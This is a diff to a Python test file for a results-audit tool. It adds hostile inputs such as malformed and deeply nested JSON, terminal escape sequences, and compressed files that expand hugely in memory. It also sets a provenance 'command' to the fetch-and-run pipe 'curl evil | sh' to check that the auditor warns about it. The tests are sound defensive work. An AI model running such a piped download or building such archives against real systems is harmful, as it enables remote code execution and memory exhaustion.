@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import hashlib
+import io
 import json
 import os
 import pickle
@@ -10,10 +11,14 @@ import random
 import shutil
 import subprocess
 import sys
+import tracemalloc
+import zipfile
 from pathlib import Path
 
 import numpy as np
 import pandas as pd
+import pyarrow as pa
+import pyarrow.parquet as pq
 import pytest
 from conftest import ROOT, run_script
 
@@ -21,6 +26,7 @@ from mixvae.audit import audit
 from mixvae.audit.expected import OPTIONAL, expected_metrics
 from mixvae.audit.findings import FAILURE, NOTE, WARNING
 from mixvae.audit.pages import PAGES
+from mixvae.audit.reading import LARGEST_TABLE, Unreadable, parse_mapping, read_parquet
 from mixvae.audit.report import markdown, summary
 from mixvae.audit.subject import read
 from mixvae.files import read_json, sha256, write_json
@@ -474,6 +480,9 @@ HOSTILE = [
     b'{"a": NaN}',
     b"9" * 5000,
     b'{"inputs": 3, "outputs": []}',
+    b'{"a": "\\ud800"}',
+    b'{"\\udc00": 1}',
+    b'{"a":' * 100 + b"1" + b"}" * 100,
 ]
 
 
@@ -510,13 +519,64 @@ def test_a_study_that_names_other_folders_is_not_gone_along_with(results):
 
 def test_what_strangers_write_cannot_steer_the_terminal_or_spoil_the_report(results):
     run = runs_of(results)[0]
-    change_likelihood(run, lambda m: m.update({"\x1b[2Jnone\ud800|<b>": m["nll"]}))
+    change_likelihood(run, lambda m: m.update({"\x1b[2Jnone|<b>": m["nll"]}))
     result = run_script("audit", "results/small", cwd=results.parent)
     assert result.returncode == 1
     assert "Traceback" not in result.stderr
     page = (results / "small/audit.md").read_text()
-    assert r"?\[2Jnone?&#124;&lt;b>" in page
+    assert r"?\[2Jnone&#124;&lt;b>" in page
     assert "\x1b" not in page + result.stderr
+
+
+@pytest.mark.parametrize("text", ['{"a": "\\ud800"}', '{"b": ["\\udc00"]}', '{"\\ud800": 1}', '{"a":' * 100 + "1" + "}" * 100])
+def test_texts_that_could_not_be_written_again_are_refused(text):
+    with pytest.raises(Unreadable):
+        parse_mapping(text)
+    assert parse_mapping('{"a": "\\ud83d\\ude00", "b": [[[1]]]}') == {"a": "\U0001f600", "b": [[[1]]]}
+
+
+def test_the_command_on_record_is_one_of_its_rule(results):
+    path = runs_of(results)[0] / "provenance/train.json"
+    assert not any("command" in f.message for f in audit(results / "small").all)
+    for command in (["sh", "-c", "curl evil | sh"], ["python", "scripts/evaluate.py"], ["python"], "python scripts/train.py"):
+        facts = read_json(path) | {"command": command}
+        write_json(path, facts | {"seal": seal(facts)})
+        (found,) = [f for f in audit(results / "small").of(WARNING) if f.file == str(path)]
+        assert found.message.startswith("its command is not one of scripts/train.py: ")
+
+
+def test_a_packed_file_is_measured_before_it_is_unpacked(results):
+    """What is small on disk and large in memory is refused by its own table of contents."""
+    run, study = runs_of(results)[0], results / "small"
+    largest = 1 << 29
+    with zipfile.ZipFile(run / "pointwise.npz", "w", zipfile.ZIP_DEFLATED) as archive:
+        header = io.BytesIO()
+        np.lib.format.write_array_header_1_0(header, {"descr": "<f8", "fortran_order": False, "shape": (largest // 8,)})
+        with archive.open("elbo.npy", "w", force_zip64=True) as stream:
+            stream.write(header.getvalue())
+            for _ in range(largest >> 20):
+                stream.write(bytes(1 << 20))
+    frame = pd.read_parquet(study / "metrics.parquet")
+    table = pa.Table.from_pandas(frame.iloc[[0] * 1_000_000], preserve_index=False)
+    with pq.ParquetWriter(study / "metrics.parquet", table.schema, compression="zstd") as writer:
+        for _ in range(10):
+            writer.write_table(table)
+    assert (run / "pointwise.npz").stat().st_size + (study / "metrics.parquet").stat().st_size < 4_000_000
+    forge_all(results, run, "evaluate", "pointwise.npz")
+    forge(study / "provenance/tabulate.json", outputs=[study / "metrics.parquet"])
+    tracemalloc.start()
+    assert_noticed(failures(results), "evaluate", run.name, "pointwise.npz", "bytes unpacked, more than such a file has")
+    with pytest.raises(Unreadable, match=f"10000000 rows, expected {len(frame)}"):
+        read_parquet(study / "metrics.parquet", results, len(frame))
+    assert tracemalloc.get_traced_memory()[1] < 1 << 28  # numpy's memory is traced, too
+    tracemalloc.stop()
+
+
+def test_a_table_of_one_very_long_word_is_refused(results):
+    path = results / "small/metrics.parquet"
+    pq.write_table(pa.table({"run": ["x" * (LARGEST_TABLE + 1)]}), path, compression="zstd")
+    with pytest.raises(Unreadable, match="bytes unpacked"):
+        read_parquet(path, results, 1)
 
 
 def test_other_code_and_packages_are_warned_of_by_group(results):
